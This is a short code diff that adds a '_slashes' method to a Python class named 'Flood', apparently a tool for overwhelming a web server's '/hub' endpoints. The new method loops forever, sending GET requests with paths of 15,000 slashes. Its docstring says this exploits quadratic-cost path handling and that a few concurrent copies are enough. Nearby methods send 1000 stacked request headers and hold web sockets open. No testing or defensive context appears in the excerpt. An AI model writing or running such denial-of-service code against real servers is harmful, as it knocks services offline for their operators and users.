@@ -185,6 +185,13 @@ class Flood:
         await self._send(streams, self._head("GET", self.path or "/hub/nothing") * 1000)
         await self._wait_for_end(streams)
 
+    async def _slashes(self, streams: Streams) -> None:
+        """Addresses that take their square to be divided, one after the other; a few at a time are enough."""
+        while True:
+            await self._send(streams, self._head("GET", "/hub/a" + "/" * 15000 + "a"))
+            await self._status(streams)
+            await self._rest(streams)
+
     async def _web_sockets(self, streams: Streams) -> None:
         """Web sockets that stay."""
         await self._send(streams, self._head("GET", self.path or "/hub/trust/socket", UPGRADE))
